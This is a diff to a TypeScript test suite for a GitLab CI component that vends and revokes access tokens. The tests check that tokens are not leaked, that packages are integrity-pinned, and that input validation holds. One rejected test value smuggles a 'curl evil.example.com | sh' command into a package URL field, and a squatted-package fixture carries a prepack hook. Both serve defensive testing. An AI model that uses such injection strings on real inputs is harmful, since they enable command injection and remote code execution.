@@ -1,7 +1,7 @@
 import { spawn } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import { once } from 'node:events';
-import { chmod, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
+import { chmod, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import process from 'node:process';
@@ -164,24 +164,17 @@ describe('the action of GitHub', () => {
 });
 
 describe('the component of GitLab', () => {
-  it('passes the token to the script, never prints it, and leaves no files', async () => {
+  /** The scripts of a job, with the inputs in their places as GitLab puts them there. */
+  async function component(own: Record<string, string>) {
     const text = await readFile(path.join(root, 'action/gitlab/templates/vend.yml'), 'utf8');
     const [spec, template] = parseAllDocuments(text).map((document) => document.toJS());
-    const shim = path.join(folder, 'token-vending');
-    await writeFile(
-      shim,
-      `#!/bin/sh\nexec "${process.execPath}" "${root}dist/cli/token-vending.mjs" "$@"\n`,
-    );
-    await chmod(shim, 0o755);
+    const described = spec.spec.inputs as Record<string, { default?: string; regex?: string }>;
     const inputs: Record<string, string> = {
       ...Object.fromEntries(
-        Object.entries(spec.spec.inputs as Record<string, { default?: string }>).map(
-          ([name, one]) => [name, one.default ?? ''],
-        ),
+        Object.entries(described).map(([name, one]) => [name, one.default ?? '']),
       ),
       credential: 'checkout/orders-api',
-      revoke: 'true',
-      command: shim,
+      ...own,
     };
     const script = (lines: string[]) =>
       ['set -e', ...lines]
@@ -190,24 +183,105 @@ describe('the component of GitLab', () => {
     const { before_script, after_script } = template['.token-vending'];
     const environment = {
       ...environmentOf(system, 'ci-checkout'),
+      HOME: folder,
       CI_BUILDS_DIR: folder,
       CI_JOB_ID: '42',
     };
     const kept = path.join(folder, 'kept');
-    const job = await run(
-      'sh',
-      ['-c', script([...before_script, `printf %s "$ACCESS_TOKEN" > ${kept}`])],
-      environment,
+    return {
+      described,
+      kept,
+      before: () =>
+        run(
+          'sh',
+          ['-c', script([...before_script, `printf %s "$ACCESS_TOKEN" > ${kept}`])],
+          environment,
+        ),
+      after: () => run('sh', ['-c', script(after_script)], environment),
+    };
+  }
+
+  const leftFiles = async () =>
+    (await readdir(folder)).filter((name) => name.startsWith('.token-vending'));
+
+  it('passes the token to the script, never prints it, and leaves no files', async () => {
+    const shim = path.join(folder, 'token-vending');
+    await writeFile(
+      shim,
+      `#!/bin/sh\nexec "${process.execPath}" "${root}dist/cli/token-vending.mjs" "$@"\n`,
     );
+    await chmod(shim, 0o755);
+    const { before, after, kept } = await component({ revoke: 'true', command: shim });
+    const job = await before();
     const token = await readFile(kept, 'utf8');
     system.guard(token);
     expect(token).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
-    const before = await revocations();
-    const end = await run('sh', ['-c', script(after_script)], environment);
+    const revoked = await revocations();
+    const end = await after();
     expect([job.code, end.code]).toEqual([0, 0]);
     expect(findCanaries(job.stdout + job.stderr + end.stdout + end.stderr, [token])).toEqual([]);
-    expect(await revocations()).toBe(before + 1);
-    expect((await readdir(folder)).filter((name) => name.startsWith('.token-vending'))).toEqual([]);
+    expect(await revocations()).toBe(revoked + 1);
+    expect(await leftFiles()).toEqual([]);
+  });
+
+  it('runs a package of the given SHA-512, and no other that is in its place', async () => {
+    const { stdout } = await run(
+      'npm',
+      ['pack', root, '--ignore-scripts', '--json', '--pack-destination', folder],
+      { HOME: folder },
+    );
+    const [{ filename, integrity }] = JSON.parse(stdout);
+    const tarball = path.join(folder, filename);
+    const good = await component({ package: tarball, integrity, revoke: 'true' });
+    expect(await good.before()).toMatchObject({ code: 0, stderr: '' });
+    system.guard(await readFile(good.kept, 'utf8'));
+    expect(await good.after()).toMatchObject({ code: 0 });
+    await rm(good.kept);
+
+    const squatted = path.join(folder, 'squatted');
+    const ran = path.join(folder, 'ran');
+    await mkdir(path.join(squatted, 'dist/cli'), { recursive: true });
+    const touch = `require('node:fs').writeFileSync(${JSON.stringify(ran)}, '')`;
+    await writeFile(
+      path.join(squatted, 'package.json'),
+      JSON.stringify({
+        name: 'token-vending',
+        version: '0.1.0',
+        scripts: { prepack: `node -e "${touch.replaceAll('"', '\\"')}"` },
+      }),
+    );
+    await writeFile(path.join(squatted, 'dist/cli/token-vending.mjs'), "import 'node:fs';\n");
+    for (const expected of [integrity, '']) {
+      const bad = await component({ package: squatted, integrity: expected });
+      const { code, stderr } = await bad.before();
+      expect([code, stderr]).toEqual([1, expect.stringMatching(/the input integrity is /)]);
+      expect(await bad.after()).toMatchObject({ code: 0 });
+    }
+    expect(await readdir(folder)).not.toEqual(expect.arrayContaining(['ran', 'kept']));
+    expect(await leftFiles()).toEqual([]);
+  });
+
+  it.each([
+    ['package', 'token-vending@0.1.0'],
+    ['package', 'token-vending'],
+    ['package', 'http://packages.example.com/token-vending.tgz'],
+    ['package', '@example/token-vending'],
+    ['package', 'https://packages.example.com/"; curl evil.example.com | sh; "'],
+    ['registry', 'http://registry.example.com'],
+    ['integrity', 'sha1-abc'],
+  ])('accepts no %s %s', async (name, value) => {
+    const { described } = await component({});
+    expect(value).not.toMatch(new RegExp(described[name]?.regex ?? ''));
+  });
+
+  it.each([
+    ['package', 'https://gitlab.example.com/api/v4/projects/7/packages/generic/tv/0.1.0/tv.tgz'],
+    ['package', '@example/token-vending@0.1.0'],
+    ['registry', 'https://gitlab.example.com/api/v4/projects/7/packages/npm/'],
+    ['integrity', `sha512-${'A'.repeat(86)}==`],
+  ])('accepts the %s %s', async (name, value) => {
+    const { described } = await component({});
+    expect(value).toMatch(new RegExp(described[name]?.regex ?? ''));
   });
 });
 
